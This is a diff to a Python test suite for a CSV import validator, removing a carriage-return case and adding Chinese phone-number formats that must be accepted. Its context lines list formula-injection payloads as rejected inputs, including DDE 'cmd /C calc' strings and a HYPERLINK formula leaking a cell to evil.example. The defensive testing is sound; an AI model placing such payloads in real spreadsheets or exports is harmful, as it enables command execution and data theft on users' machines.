@@ -411,7 +411,8 @@ def _formula_cases() -> list[Case]:
         bad("at_sum_cmd", "name", "@SUM(1+9)*cmd|' /C calc'!A0"),
         bad("hyperlink", "name", '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'),
         bad("leading_tab_then_equals", "address", "\t=1+1"),
-        bad("leading_cr_then_equals", "address", "\r=1+1"),
+        # (a leading CR cannot reach the engine in a CSV: a line break inside a value refuses
+        # the file at its line, see test_corpus_values; the engine's rule covers it on its own)
         bad("leading_quote_then_equals", "address", "'=1+1"),
         bad("leading_double_quote_then_at", "name", '"@SUM(1)'),
         bad("spaces_then_minus_cmd", "address", "   -cmd|' /C calc'!A0"),
@@ -420,6 +421,14 @@ def _formula_cases() -> list[Case]:
         bad("payload_in_decimal_is_a_type_error", "balance", "-2+3+cmd|' /C calc'!A0", "TYPE"),
         bad("formula_in_int_is_a_type_error", "children", "=1+1", "TYPE"),
         good("phone_plus_86_spaces", "phone", "+86 138 0013 8000", "mobile", "+86 138 0013 8000"),
+        good(
+            "phone_plus_parenthesised_86",
+            "phone",
+            "+(86) 138 0013 8000",
+            "mobile",
+            "+(86) 138 0013 8000",
+        ),
+        good("phone_plus_space_86", "phone", "+ 86 138 0013 8000", "mobile", "+ 86 138 0013 8000"),
         good("phone_plus_86_dashes", "phone", "+86-551-6262-0000", "mobile", "+86-551-6262-0000"),
         good(
             "address_dash_inside",
